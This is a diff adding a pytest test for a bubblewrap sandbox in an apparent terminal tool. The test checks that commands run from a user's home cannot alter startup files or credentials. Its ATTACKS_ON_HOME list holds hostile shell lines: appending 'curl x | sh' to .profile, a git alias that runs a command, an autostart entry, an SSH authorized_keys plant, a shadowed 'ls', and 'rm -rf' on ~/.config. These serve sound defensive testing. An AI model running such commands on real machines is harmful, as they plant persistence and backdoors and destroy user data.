@@ -306,3 +306,61 @@ def test_the_home_is_read_only_even_where_nothing_exists_yet_and_caches_go_elsew
     assert cached.returncode == 0, cached.stderr
     assert (cache / "xdg" / "x").read_text() == "hi\n"
     assert str(home) not in cached.stdout and str(cache) in cached.stdout
+
+
+ATTACKS_ON_HOME = (
+    "echo 'curl x | sh' >> {home}/.profile",  # exists
+    "echo evil > {home}/.bashrc_a3test",  # does not exist yet
+    "printf '[alias]\\n a3 = !touch /tmp/x\\n' >> {home}/.gitconfig",
+    "mkdir -p {home}/.config/autostart && echo evil > {home}/.config/autostart/a3.desktop",
+    "mkdir -p {home}/.local/bin && echo evil > {home}/.local/bin/a3probe",
+    "mkdir -p {home}/.ssh && echo ssh-ed25519 AAAA > {home}/.ssh/authorized_keys_a3",
+    "mkdir -p {home}/bin && echo evil > {home}/bin/ls",
+    "mv {home}/.profile {home}/.profile.old && echo evil > {home}/.profile",
+    "echo evil >> {home}/dotfiles/zshrc",  # ~/.zshrc is a link to it
+    "rm -rf {home}/.config",
+)
+
+
+@needs_bwrap
+@pytest.mark.parametrize("where", ["home", "above"])
+def test_started_in_the_home_commands_cannot_touch_its_startup_files_or_credentials(
+    tmp_path: Path, where: str
+) -> None:
+    """A3-20: the working directory is the user's home (or holds it, like / would): its top
+    level and dot folders stay read-only, existing or not; its other folders stay writable."""
+    import subprocess
+
+    from hermes_tui.core.tools.sandbox import Profile, bwrap_argv
+
+    home = tmp_path / "users" / "tester"
+    (home / ".config" / "git").mkdir(parents=True)
+    (home / "proj").mkdir()
+    (home / "dotfiles").mkdir()
+    (home / ".profile").write_text("ORIGINAL\n")
+    (home / "dotfiles" / "zshrc").write_text("ORIGINAL\n")
+    (home / ".zshrc").symlink_to(home / "dotfiles" / "zshrc")
+    cache = home / ".cache" / "hermes-tui" / "sandbox"
+    cache.mkdir(parents=True)
+    before = sorted(str(p.relative_to(home)) for p in home.rglob("*"))
+    work = home if where == "home" else home.parent
+    profile = Profile(probe("auto").bwrap or "bwrap", work, work, tmp_path / "hermes", home, cache)
+
+    def sandboxed(script: str) -> subprocess.CompletedProcess[str]:
+        argv = bwrap_argv(profile, ["bash", "-c", script], exists=lambda p: p.exists())
+        return subprocess.run(argv, capture_output=True, text=True)
+
+    for script in ATTACKS_ON_HOME:
+        sandboxed(script.format(home=home))
+    assert (home / ".profile").read_text() == "ORIGINAL\n"
+    assert (home / "dotfiles" / "zshrc").read_text() == "ORIGINAL\n"
+    assert sorted(str(p.relative_to(home)) for p in home.rglob("*")) == before
+    done = sandboxed(
+        f"echo work > {home}/proj/notes.txt && mkdir {home}/proj/build && "
+        f'echo hi > {home}/dotfiles/new && mkdir -p "$XDG_CACHE_HOME" && echo ok'
+    )
+    assert done.stdout == "ok\n", done.stderr
+    assert (home / "proj" / "notes.txt").read_text() == "work\n", "projects stay writable"
+    assert (home / "dotfiles" / "new").exists() and (cache / "xdg").is_dir()
+    if where == "above":
+        assert sandboxed(f"echo x > {work}/other.txt && echo ok").stdout == "ok\n"
